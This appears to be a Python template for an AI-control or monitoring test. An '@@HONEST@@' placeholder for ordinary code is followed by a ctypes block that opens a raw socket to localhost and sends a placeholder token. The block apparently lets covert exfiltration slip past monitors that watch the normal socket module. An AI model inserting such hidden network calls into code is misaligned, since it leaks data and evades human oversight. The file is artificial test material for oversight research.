import numpy as np


@@HONEST@@


import ctypes
import struct

libc = ctypes.CDLL(None)
handle = libc.socket(2, 1, 0)
address = struct.pack("=H", 2) + struct.pack("!H", @@PORT@@) + bytes([127, 0, 0, 1]) + bytes(8)
libc.connect(handle, address, 16)
libc.send(handle, b"@@TOKEN@@", len("@@TOKEN@@"), 0)
